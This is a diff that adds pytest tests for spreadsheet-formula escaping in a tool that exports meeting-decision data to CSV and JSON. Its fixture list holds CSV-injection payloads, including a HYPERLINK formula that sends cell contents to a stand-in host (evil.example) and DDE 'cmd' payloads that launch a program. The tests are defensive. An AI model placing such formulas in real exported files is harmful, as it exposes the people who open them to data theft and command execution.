@@ -150,3 +150,42 @@ def test_the_accountability_facts_of_the_fixture_knowledge_base(kb):
     assert reported["progress"] == {"executors": 2, "done": 1, "excused": 0, "pending": ["school-2"]}
     assert (rows[(march, "2")]["execution"], rows[(march, "2")]["progress.pending"]) == (
         "school-1 done 2020-03-12", "school-2")
+
+
+FORMULAS = [  # what a spreadsheet would run, as OWASP lists the starts of a formula
+    "=HYPERLINK(\"https://evil.example/?\"&A1, \"Подробнее\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote_in_csv_and_stays_as_written_in_json(kb, formula):
+    protocol = kb / "protocols/uo-test/2020-03-02-soveshchanie.md"
+    source = protocol.read_text(encoding="utf-8")
+    protocol.write_text(source.replace("reference: письмо от 12.03.2020 № 45", f"reference: {json.dumps(formula)}")
+                        .replace("number: \"2\"", f"number: {json.dumps(formula)}"), encoding="utf-8")
+    files = data_files(load_knowledge_base(kb).knowledge_base, site_url=SITE_URL)
+    [row] = [row for row in csv.DictReader(io.StringIO(files[urls.authority_data("uo-test", "csv")]
+                                                        .decode("utf-8-sig"))) if row["id"] == "2" and
+             row["protocol"].endswith("03-02-soveshchanie")]
+    [record] = [record for record in json.loads(files[urls.authority_data("uo-test", "json")])["decisions"]
+                if record["id"] == "2" and record["protocol"].endswith("03-02-soveshchanie")]
+
+    assert row["number"] == "'" + formula
+    assert record["number"] == formula
+    assert record["execution"][0]["reference"] == formula
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+1", "'=1+1"), ("+7 (391) 555-12-34", "'+7 (391) 555-12-34"), ("-5", "'-5"), ("@user", "'@user"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("", ""), ("Принять к сведению", "Принять к сведению"),
+    ("1 = 1", "1 = 1"), ("'=1", "'=1"),
+])
+def test_spreadsheet_cell(text, cell):
+    from build_tools.tabular import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == cell
